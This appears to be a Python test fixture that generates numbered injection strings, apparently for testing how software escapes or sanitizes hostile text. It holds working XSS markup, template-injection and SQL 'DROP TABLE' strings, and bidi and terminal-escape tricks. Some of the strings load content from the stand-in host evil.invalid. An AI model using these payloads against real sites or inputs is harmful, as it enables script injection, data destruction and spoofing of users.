"""A thousand texts that want to be more than text: markup, scripts, bidi, terminals, templates."""

from __future__ import annotations

from itertools import cycle, islice

# `{n}` is the number a payload is known by: what runs tells it, what is fetched has it in its address
MARKUP = (
    "<script>pwn({n})</script>", "<img src=x class=xss onerror=pwn({n})>",
    "<svg onload=pwn({n}) class=xss>", '"><script>pwn({n})</script>',
    "'><img class=xss src=x onerror='pwn({n})'>", "</script><script>pwn({n})</script>",
    "</title><script>pwn({n})</script>", "</textarea><svg class=xss onload=pwn({n})>",
    "<iframe class=xss src=//evil.invalid/{n}>", "<img class=xss src=//evil.invalid/{n}.png>",
    "<link class=xss rel=stylesheet href=//evil.invalid/{n}>",
    "<style>@import '//evil.invalid/{n}';</style>", "<a class=xss href=javascript:pwn({n})>x</a>",
    "<form class=xss action=//evil.invalid/{n}><button>x", "<body onload=pwn({n})>",
    "<details class=xss open ontoggle=pwn({n})>", "<video class=xss src=//evil.invalid/{n}>",
    "<input class=xss autofocus onfocus=pwn({n})>", "<base class=xss href=//evil.invalid/{n}/>",
    "<meta class=xss http-equiv=refresh content=0;url=//evil.invalid/{n}>",
    "<object class=xss data=//evil.invalid/{n}>", "<!--><img class=xss src=x onerror=pwn({n})>-->",
    "<![CDATA[<script>pwn({n})</script>]]>", "&lt;script&gt;pwn({n})&lt;/script&gt;",
    "&#60;script&#62;pwn({n})&#60;/script&#62;", "\\u003cscript\\u003epwn({n})",
    "%3Cscript%3Epwn({n})%3C/script%3E",
    "<math><mtext><img class=xss src=x onerror=pwn({n})></mtext></math>",
    "<template><script>pwn({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn({n})>'>",
    "<x class=xss onclick=pwn({n}) style=animation-name:a onanimationstart=pwn({n})>",
)  # fmt: skip
TEMPLATES = (
    "${{pwn({n})}}", "{{{{pwn({n})}}}}", "{{% pwn({n}) %}}", "<!--?lit$1$--><script>pwn({n})</script>",
    "{{{n}.__class__}}", "`${{pwn({n})}}`", "#{{pwn({n})}}", "<%= pwn({n}) %>", "javascript:pwn({n})",
    "data:text/html,<script>pwn({n})</script>", "__proto__ {n}", "constructor {n}",
    '{{"class":"xss","n":{n}}}', "%s%n %x {n}", "'; DROP TABLE facts; -- {n}",
)  # fmt: skip
SIGNS = (
    "\u202e{n} gnorw\u202c", "\u2066<b class=xss>{n}</b>\u2069", "a\u200b\u200d\ufeff{n}",
    "\u2067\u202dright {n}", "{n}\u061c\u200f\u200e", "\x1b[31mred {n}\x1b[0m",
    "\x1b]8;;http://evil.invalid/{n}\x1b\\link\x1b]8;;\x1b\\", "\x9b2J{n}", "\x1b[2K\r{n} gone",
    "\x07\x08\x08\x08{n}", "\x00{n}", "\u2028pwn({n})\u2029", "\U000e0041\U000e0042{n}",
    "Z\u0335\u0321\u0322a{n}\u0489",
)  # fmt: skip


def payloads(count: int = 1000) -> list[str]:
    """Each begins with its number, so that it is known where it was cut short."""
    forms = cycle([*MARKUP, *TEMPLATES, *SIGNS])
    return [f"{n}:{form.format(n=n)}" for n, form in enumerate(islice(forms, count), 1000)]
